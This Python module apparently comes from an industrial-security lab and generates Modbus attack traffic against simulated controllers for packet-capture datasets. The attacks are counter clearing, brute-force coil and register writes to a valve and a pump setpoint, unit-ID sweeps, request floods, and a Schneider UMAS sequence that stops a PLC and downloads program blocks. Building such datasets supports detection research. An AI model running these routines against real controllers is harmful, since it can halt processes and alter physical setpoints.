"""The Modbus abuse session: what modbus_attacks leaves out, against plc1 and rtu1.

Counter clearing (FC 8 sub-functions 0x0A and 0x14), brute-force writes of one coil and one
register, unit-id sweeps (each server answers exception 04 for a unit it lacks), requests
pipelined faster than rtu1 answers them, a flood of the drive's slow parameter channel
(exception 06, device busy; a parameter write is answered 05, acknowledge) and Schneider UMAS
(FC 90) PLC control. See pcaps/README.md.
"""

from __future__ import annotations

import asyncio
import contextlib
import struct
from typing import Any

from lab.roles import RoleArgs, role
from lab.roles.modbus import (
    ACKNOWLEDGE,
    DEVICE_BUSY,
    PARAMETER_BASE,
    PORT,
    UMAS_OK,
    _Attacker,
    umas_function,
)

#: what pymodbus 3.16's server answers for a unit id it lacks: its simulator fails the
#: lookup, so exception 04 (server device failure) rather than 0B (gateway target failed)
ABSENT_UNIT = 0x04
#: plc1 unit 1 coil 2 (inlet valve) and HR 4 (pump speed setpoint)
BRUTE_COIL, BRUTE_REGISTER = 2, 4
BRUTE_WRITES = 24
#: unit ids swept on each server
SWEEP_UNITS = range(0, 32)
DRIVE_UNIT = 2
#: the pipelined flood of rtu1: segments, and FC4 requests written in each
FLOOD_BATCHES, FLOOD_PIPELINE = 8, 16
FLOOD_READS = 40
#: UMAS requests: (what, UMAS function code, data), in the order an engineering tool or an
#: attack tool sends them: identify, reserve, stop, download, upload, start, release
UMAS_REQUESTS: tuple[tuple[str, int, bytes], ...] = (
    ("read id", 0x02, b""),
    ("take PLC reservation", 0x10, b"\x00\x00\x0bROGUE-LAPTOP"),
    ("stop PLC", 0x41, b"\xff\x00"),
    ("initialize download", 0x33, b"\x01\x00\xfb\x03"),
    ("download block", 0x34, b"\x01\x00\x01\x00\x10\x00" + bytes(range(16))),
    ("end strategy download", 0x35, b"\x01\x00"),
    ("initialize upload", 0x30, b"\x01\x00"),
    ("upload block", 0x31, b"\x01\x00\x01\x00\x00\x00"),
    ("end strategy upload", 0x32, b"\x01\x00"),
    ("start PLC", 0x40, b"\xff\x00"),
    ("release PLC reservation", 0x11, b""),
)
UMAS_PAIR_KEY = 0x5C


@role("modbus_abuse-attacker")
def modbus_abuse_attacker(args: RoleArgs) -> None:
    """Abuse plc1 and rtu1 while the HMI polls them; see pcaps/README.md."""
    asyncio.run(_abuse(args["plc"], args["rtu"], float(args["duration"]), int(args["seed"])))


async def _connect(ip: str) -> Any:
    from pymodbus.client import AsyncModbusTcpClient

    client = AsyncModbusTcpClient(ip, port=PORT, timeout=2, retries=0)
    if not await client.connect():
        raise SystemExit(f"modbus-abuse: cannot connect to {ip}:{PORT}")
    return client


async def _exception_of(at: _Attacker, client: Any, method: str, *args: Any, **kw: Any) -> int:
    """The exception code of the answer (0: a normal answer)."""
    at.requests += 1
    result = await getattr(client, method)(*args, **kw)
    return int(result.exception_code) if result.isError() else 0


async def _brute_force(at: _Attacker, plc: Any) -> str:
    """The same coil, then the same register, written BRUTE_WRITES times each, fast."""
    for i in range(BRUTE_WRITES):
        await at.expect_ok(plc, "write_coil", BRUTE_COIL, i % 2 == 0)
        await asyncio.sleep(at.gap)
    for i in range(BRUTE_WRITES):
        await at.expect_ok(plc, "write_register", BRUTE_REGISTER, 1480 + 40 * (i % 12))
        await asyncio.sleep(at.gap)
    return f"{BRUTE_WRITES} writes of coil {BRUTE_COIL}, {BRUTE_WRITES} of HR {BRUTE_REGISTER}"


async def _sweep_answered(at: _Attacker, plc: Any, units: tuple[int, ...] = (1, 2)) -> str:
    """FC3 HR 0 to every unit id in SWEEP_UNITS; the server answers 04 for the ones it lacks."""
    codes = []
    for unit in SWEEP_UNITS:
        codes.append(
            await _exception_of(at, plc, "read_holding_registers", 0, count=1, device_id=unit)
        )
        await asyncio.sleep(at.gap)
    served = [u for u, c in zip(SWEEP_UNITS, codes, strict=True) if c == 0]
    failed = codes.count(ABSENT_UNIT)
    if served != list(units) or failed + len(served) != len(codes):
        raise SystemExit(f"modbus-abuse: unit sweep of plc1 answered {codes}")
    return f"plc1 serves units {served}, {failed} answered 04"


async def _pipelined_flood(at: _Attacker, ip: str) -> str:
    """FLOOD_BATCHES segments of FLOOD_PIPELINE FC4 requests each on a raw connection, as a
    flooding tool writes them; pymodbus's server answers one request per segment."""
    reader, writer = await asyncio.open_connection(ip, PORT)
    answers = b""
    for batch in range(FLOOD_BATCHES):
        burst = b"".join(
            struct.pack(">HHHBBHH", 0x4000 + batch * FLOOD_PIPELINE + i, 0, 6, 1, 4, 0, 8)
            for i in range(FLOOD_PIPELINE)
        )
        at.requests += FLOOD_PIPELINE
        writer.write(burst)
        await writer.drain()
        await asyncio.sleep(at.gap * 2)
        with contextlib.suppress(TimeoutError):
            answers += await asyncio.wait_for(reader.read(4096), at.gap * 2)
    writer.close()
    await writer.wait_closed()
    sent = FLOOD_BATCHES * FLOOD_PIPELINE
    # an FC4 answer of 8 registers: 7-byte MBAP + 2 + 16 bytes
    return f"{sent} requests in {FLOOD_BATCHES} segments, {len(answers) // 25} answered"


async def _flood_parameters(at: _Attacker, plc: Any) -> str:
    """Read the drive's parameters back to back: the slow channel answers busy; then write two."""
    codes = []
    for i in range(FLOOD_READS):
        address = PARAMETER_BASE + 2 * i
        codes.append(
            await _exception_of(
                at, plc, "read_holding_registers", address, count=2, device_id=DRIVE_UNIT
            )
        )
        await asyncio.sleep(at.gap / 2)
    busy = codes.count(DEVICE_BUSY)
    if not busy or busy + codes.count(0) != len(codes):
        raise SystemExit(f"modbus-abuse: parameter reads answered {codes}")
    acks = []
    for address, value in ((PARAMETER_BASE + 20, 0x3FF), (PARAMETER_BASE + 21, 0)):
        acks.append(
            await _exception_of(at, plc, "write_register", address, value, device_id=DRIVE_UNIT)
        )
        await asyncio.sleep(at.gap)
    if acks != [ACKNOWLEDGE, ACKNOWLEDGE]:
        raise SystemExit(f"modbus-abuse: parameter writes answered {acks}")
    return f"{FLOOD_READS} parameter reads, {busy} busy; 2 writes acknowledged (05)"


async def _umas(at: _Attacker, plc: Any) -> str:
    """UMAS requests on the pymodbus connection; plc1 ("umas") accepts each with 0xFE."""
    umas = umas_function()
    plc.register(umas)
    for what, code, data in UMAS_REQUESTS:
        at.requests += 1
        body = bytes((UMAS_PAIR_KEY, code)) + data
        result = await plc.execute(False, umas(body=body, dev_id=1))
        if result.isError() or result.body[1:2] != bytes((UMAS_OK,)):
            raise SystemExit(f"modbus-abuse: UMAS {what}: {result}")
        await asyncio.sleep(at.pause / 4)
    return f"{len(UMAS_REQUESTS)} UMAS requests answered 0xFE"


async def _abuse(plc_ip: str, rtu_ip: str, duration: float, seed: int) -> None:
    at = _Attacker(duration, seed)
    await asyncio.sleep(duration / 10)  # the HMI's normal polling comes first
    plc = await _connect(plc_ip)

    at.step("1 clear counters: FC8 sub 0x0A (counters and diagnostic register), 0x14 (overrun)")
    await at.expect_ok(plc, "diag_clear_counters")
    await asyncio.sleep(at.pause / 2)
    await at.expect_ok(plc, "diag_clear_overrun_counter")
    await asyncio.sleep(at.pause)

    at.step("2 brute-force I/O: coil 2 and HR 4 of plc1 unit 1")
    at.step("  " + await _brute_force(at, plc))
    await asyncio.sleep(at.pause)

    at.step("3 unit-id sweep of plc1: FC3 HR 0 to units 0-31")
    at.step("  " + await _sweep_answered(at, plc))
    await asyncio.sleep(at.pause)

    at.step("4 unit-id sweep of rtu1 (FC3 HR 0, units 0-31), then a pipelined flood")
    rtu = await _connect(rtu_ip)
    at.step("  " + (await _sweep_answered(at, rtu, (1,))).replace("plc1", "rtu1"))
    rtu.close()
    await asyncio.sleep(at.pause / 2)
    at.step("  " + await _pipelined_flood(at, rtu_ip))
    await asyncio.sleep(at.pause)

    at.step("5 flood the drive's parameter channel (unit 2, HR 100-179)")
    at.step("  " + await _flood_parameters(at, plc))
    await asyncio.sleep(at.pause)

    at.step("6 UMAS (FC 90): identify, reserve, stop, download, upload, start, release")
    at.step("  " + await _umas(at, plc))
    plc.close()
    await asyncio.sleep(at.pause / 2)
    at.step(f"done, {at.requests} requests")
